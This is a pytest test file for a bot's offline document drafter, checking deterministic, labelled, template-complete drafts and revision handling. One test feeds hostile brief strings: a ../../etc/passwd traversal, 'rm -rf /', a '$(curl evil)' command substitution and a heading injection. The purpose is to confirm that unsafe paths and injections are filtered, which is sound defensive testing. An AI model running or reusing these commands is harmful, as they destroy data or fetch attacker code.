"""The offline drafter: deterministic, labelled, template-shaped, and honest about revisions."""

from __future__ import annotations

import asyncio
import hashlib
import re

import pytest

from bot.agents.drafting import OFFLINE_LABEL, Draft, DraftRequest, task_graph_problems
from bot.agents.offline import OfflineDrafter
from bot.agents.paths import is_safe_relative_path
from bot.agents.templates import NOT_COVERED, load_template, section_headings
from bot.sop.phases import Phase
from bot.sop.records import TaskRecord

DRAFTED = [Phase.PRD, Phase.TASK_LIST, Phase.SPEC, Phase.ACTION_PLAN]

THREAD_BRIEF = """alice: We need a /orch status command that lists active goals.
- Show each goal's phase and who must approve next
- Add a daily digest to the channel and encrypt the export
bob: Should it include done goals?
Also the digest should link to the artifacts."""


def request(phase: Phase, brief: str = THREAD_BRIEF, **extra) -> DraftRequest:
    return DraftRequest(
        goal_id="G-0007",
        title="Status command",
        brief=brief,
        phase=phase,
        template=load_template(phase),
        **extra,
    )


def draft(req: DraftRequest) -> Draft:
    return asyncio.run(OfflineDrafter().draft(req))


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.mark.parametrize("phase", DRAFTED)
def test_same_request_gives_byte_identical_markdown(phase: Phase) -> None:
    first = draft(request(phase, triggers=["security"]))
    second = OfflineDrafter().draft_sync(request(phase, triggers=["security"]))
    assert first == second
    assert first.markdown.encode() == second.markdown.encode()


@pytest.mark.parametrize("phase", DRAFTED)
def test_offline_draft_is_labelled_and_fills_every_template_section(phase: Phase) -> None:
    result = draft(request(phase))
    assert result.markdown.startswith(OFFLINE_LABEL + "\n\n# ")
    assert result.offline is True and result.drafted_by == "offline"
    for heading in section_headings(load_template(phase)):
        assert f"\n## {heading}\n" in result.markdown
    assert NOT_COVERED not in result.markdown
    assert 0 < len(result.summary) <= 300 and "\n" not in result.summary


def test_prd_restates_the_brief_as_goals_requirements_and_questions() -> None:
    md = draft(request(Phase.PRD)).markdown
    assert "- Show each goal's phase and who must approve next" in md
    assert "THE SYSTEM SHALL show each goal's phase and who must approve next." in md
    assert "- Should it include done goals?" in md
    assert "alice:" in md  # the thread is quoted verbatim in the problem statement


def test_task_list_has_two_to_five_tasks_with_a_sound_graph_and_safe_paths() -> None:
    result = draft(request(Phase.TASK_LIST))
    tasks = result.tasks
    assert tasks is not None and 2 <= len(tasks) <= 5
    assert task_graph_problems(tasks) == []
    ids = {t.id for t in tasks}
    for task in tasks:
        assert all(d in ids for d in task.dependencies)
        assert task.priority in ("high", "medium", "low")
        assert task.acceptance_criteria and task.testStrategy
        assert len(task.files) == 2
        module, test = task.files
        assert re.fullmatch(r"src/[a-z][a-z0-9_]*\.py", module)
        assert test == "tests/test_" + module.removeprefix("src/")
    assert len({t.files[0] for t in tasks}) == len(tasks)  # no two tasks share a module
    assert [t.dependencies for t in tasks][:2] == [[], [1]]
    for task in tasks:
        assert f"### {task.id}. {task.title}" in result.markdown


def test_a_one_sentence_brief_still_gives_at_least_two_tasks() -> None:
    tasks = draft(request(Phase.TASK_LIST, brief="Add a retry button")).tasks
    assert tasks is not None and len(tasks) == 2
    assert tasks[1].dependencies == [1]


def test_a_brief_joined_by_and_is_split_into_tasks() -> None:
    tasks = draft(
        request(Phase.TASK_LIST, brief="Store reminders in the database and send them as DMs")
    ).tasks
    assert tasks is not None
    assert [t.title for t in tasks] == ["Store reminders in the database", "Send them as DMs"]


def test_a_long_brief_is_capped_at_five_tasks_without_losing_text() -> None:
    brief = "\n".join(f"- Build feature number {n} for the bot" for n in range(1, 9))
    result = draft(request(Phase.TASK_LIST, brief=brief))
    assert result.tasks is not None and len(result.tasks) == 5
    assert "feature number 8" in result.tasks[-1].description


def test_hostile_briefs_cannot_produce_unsafe_paths_or_broken_markdown() -> None:
    brief = "- ../../etc/passwd; rm -rf / && echo pwned\n- `$(curl evil)` | <@U1> -- --force\n- ## Heading injection"
    result = draft(request(Phase.TASK_LIST, brief=brief))
    assert result.tasks is not None
    for task in result.tasks:
        for path in task.files:
            assert is_safe_relative_path(path)
            assert re.fullmatch(r"(src|tests)/[a-z0-9_]+\.py", path)
    assert "\n## Heading injection" not in result.markdown


def test_spec_names_each_trigger_with_its_evidence() -> None:
    md = draft(request(Phase.SPEC, triggers=["security"])).markdown
    assert "**security**" in md
    assert "evidence: “Add a daily digest to the channel and encrypt the export”" in md
    assert "Security-sensitive" in md


def test_action_plan_follows_the_approved_tasks_in_dependency_order() -> None:
    approved = [
        TaskRecord(id=2, title="Second", dependencies=[1], files=["pkg/b.py", "tests/test_b.py"]),
        TaskRecord(id=1, title="First", files=["pkg/a.py", "tests/test_a.py", "../../evil"]),
    ]
    md = draft(request(Phase.ACTION_PLAN, tasks=approved)).markdown
    assert md.index("### Task 1: First") < md.index("### Task 2: Second")
    assert "`orch/g-0007/task-1`" in md
    assert "`python -m pytest -q tests/test_a.py`" in md
    assert "../../evil" not in md  # unsafe paths never reach a command


@pytest.mark.parametrize("phase", DRAFTED)
def test_request_changes_redraft_quotes_feedback_keeps_content_and_changes_the_hash(phase: Phase) -> None:
    first = draft(request(phase))
    feedback = "Please split the digest work.\nAnd mention the SLA."
    second = draft(request(phase, previous=first.markdown, feedback=feedback))
    assert sha(second.markdown) != sha(first.markdown)
    assert second.markdown.startswith(OFFLINE_LABEL)
    assert second.markdown.count(OFFLINE_LABEL) == 1
    assert "## Changes in this version (revision 2)" in second.markdown
    assert "> Please split the digest work.\n> And mention the SLA." in second.markdown
    # Everything but the label of the previous version is carried over.
    body = first.markdown.removeprefix(OFFLINE_LABEL + "\n\n").split("\n", 1)[1]
    assert body.strip() in second.markdown
    if phase is Phase.TASK_LIST:
        assert second.tasks == first.tasks


def test_each_further_revision_is_numbered_and_keeps_earlier_feedback() -> None:
    v1 = draft(request(Phase.PRD))
    v2 = draft(request(Phase.PRD, previous=v1.markdown, feedback="same words"))
    v3 = draft(request(Phase.PRD, previous=v2.markdown, feedback="same words"))
    assert len({sha(v.markdown) for v in (v1, v2, v3)}) == 3
    assert "## Changes in this version (revision 3)" in v3.markdown
    assert "## Earlier changes (revision 2)" in v3.markdown
    assert v3.markdown.count("## Changes in this version") == 1
    assert v3.markdown.index("revision 3") < v3.markdown.index("revision 2") < v3.markdown.index("## Problem")


def test_a_revision_of_a_model_written_version_is_also_carried_over() -> None:
    previous = "# PRD: Status\n\n## Problem\n\nWritten by a model.\n"
    result = draft(request(Phase.PRD, previous=previous, feedback=""))
    assert "## Changes in this version (revision 2)" in result.markdown
    assert "> (no comment given)" in result.markdown
    assert "Written by a model." in result.markdown


def test_a_task_list_revision_keeps_the_task_records_it_is_given() -> None:
    previous_tasks = [TaskRecord(id=1, title="Kept", files=["src/kept.py"])]
    result = draft(request(Phase.TASK_LIST, previous="# Task list\n", feedback="ok", tasks=previous_tasks))
    assert result.tasks == previous_tasks


def test_phases_without_a_drafter_are_refused() -> None:
    with pytest.raises(ValueError, match="not drafted"):
        OfflineDrafter().draft_sync(request(Phase.PRD).model_copy(update={"phase": Phase.IMPLEMENTATION}))
